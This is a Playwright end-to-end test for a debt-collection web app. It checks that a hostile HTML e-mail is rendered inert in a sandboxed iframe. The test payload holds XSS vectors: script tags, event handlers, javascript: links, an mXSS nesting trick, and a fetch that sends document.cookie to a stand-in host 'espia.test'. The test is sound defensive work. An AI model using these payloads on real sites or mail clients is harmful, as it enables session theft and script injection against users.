import { execFileSync } from "node:child_process";
import { expect, test } from "@playwright/test";
import { login, open } from "./helpers";

/** An e-mail handed to the app as a mail server would (`recaudo receive-mail`). */
function receiveMail(raw: string) {
  execFileSync(process.env.RECAUDO_BIN!, ["receive-mail"], {
    cwd: "..",
    input: raw.replace(/\n/g, "\r\n"),
    env: { ...process.env, RECAUDO_DEMO: "true", RECAUDO_DATABASE_URL: "sqlite://end2end/.e2e-data/e2e.db", RUST_LOG: "warn" },
  });
}

const HOSTILE = `<div onmouseover="top.pwned='hover'" style="background:url(https://espia.test/fondo.png)">
<p>Pago el <b>viernes</b> sin falta.</p>
<script>top.pwned = 'script'; fetch('https://espia.test/robar?c=' + document.cookie)</script>
<img src="https://espia.test/pixel.gif" alt="firma" onerror="top.pwned='img'">
<svg onload="top.pwned='svg'"><circle r="4"/><script>top.pwned='svg-script'</script></svg>
<a href="javascript:top.pwned='link'">Ver factura</a>
<a href="https://banco.test/pagar">Pagar en el banco</a>
<iframe src="https://espia.test/marco"></iframe>
<form action="https://espia.test/form"><input name="clave" value="x"><button>Enviar</button></form>
<style>body { background-image: url(https://espia.test/css.png) }</style>
<object data="https://espia.test/x.swf"></object>
<math><mtext><table><mglyph><style><img src=x onerror="top.pwned='mxss'"></style></mglyph></table></mtext></math>
</div>`;

test("a hostile HTML e-mail is shown inert in the conversation", async ({ page }) => {
  // A conversation the debtor started by e-mail: the composer offers their address.
  await login(page, "asesor4@demo.recaudo", undefined, "/conversaciones");
  await page
    .getByRole("list", { name: "Conversaciones" })
    .getByRole("link", { name: /^Correo electrónico / })
    .first()
    .click();
  await expect(page).toHaveURL(/\/conversaciones\/\d+/);
  const clientId = page.url().match(/\/conversaciones\/(\d+)/)![1];
  const line = await page.getByRole("form", { name: "Responder" }).getByText(/^Correo electrónico · /).innerText();
  const email = line.split(" · ")[1].trim();
  expect(email).toContain("@");

  receiveMail(`From: Deudor <${email}>
To: cobranzas@demo.recaudo
Subject: Re: Recordatorio de pago
Message-ID: <hostil-${Date.now()}@deudor.test>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="B"

--B
Content-Type: text/plain; charset=utf-8

Pago el viernes sin falta.
--B
Content-Type: text/html; charset=utf-8

${HOSTILE}
--B--
`);

  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const leaks: string[] = [];
  page.on("request", (r) => {
    if (r.url().includes("espia.test") || r.url().startsWith("javascript:")) leaks.push(r.url());
  });

  await open(page, `/conversaciones/${clientId}`);
  const frame = page.frameLocator('iframe[title="Correo recibido (HTML)"]').last();
  await expect(frame.getByText("Pago el viernes sin falta.")).toBeVisible();
  await expect(frame.getByRole("link", { name: "Pagar en el banco" })).toHaveAttribute("href", "https://banco.test/pagar");
  await expect(frame.getByRole("img", { name: "firma" })).toBeAttached();

  // Nothing that runs, loads or submits survived in the message (the frame's own head
  // holds only its policy and a font rule).
  for (const selector of [
    "script", "svg", "iframe", "form", "input", "object", "style", "math",
    "[onmouseover]", "[onerror]", "[onload]", "[style]", "img[src]", 'a[href^="javascript:"]',
  ]) {
    await expect(frame.locator("body").locator(selector), selector).toHaveCount(0);
  }
  // The pointer is moved over the text by its position: what matters is that the
  // frame's handlers are gone, not Playwright's actionability checks inside a frame
  // that may not run scripts (they timed out once in CI).
  const text = await frame.getByText("Pago el viernes sin falta.").boundingBox();
  expect(text).not.toBeNull();
  await page.mouse.move(text!.x + text!.width / 2, text!.y + text!.height / 2);
  await frame.getByText("Ver factura").click();
  await page.getByRole("button", { name: "Ampliar" }).last().click();
  await expect(page.getByRole("button", { name: "Reducir" }).last()).toBeVisible();

  expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(leaks).toEqual([]);
  // The frame can neither script nor reach the app's origin.
  await expect(frame.locator("head script")).toHaveCount(0);
  await expect(page.locator('iframe[title="Correo recibido (HTML)"]').last()).toHaveAttribute(
    "sandbox",
    "allow-popups allow-popups-to-escape-sandbox",
  );
});
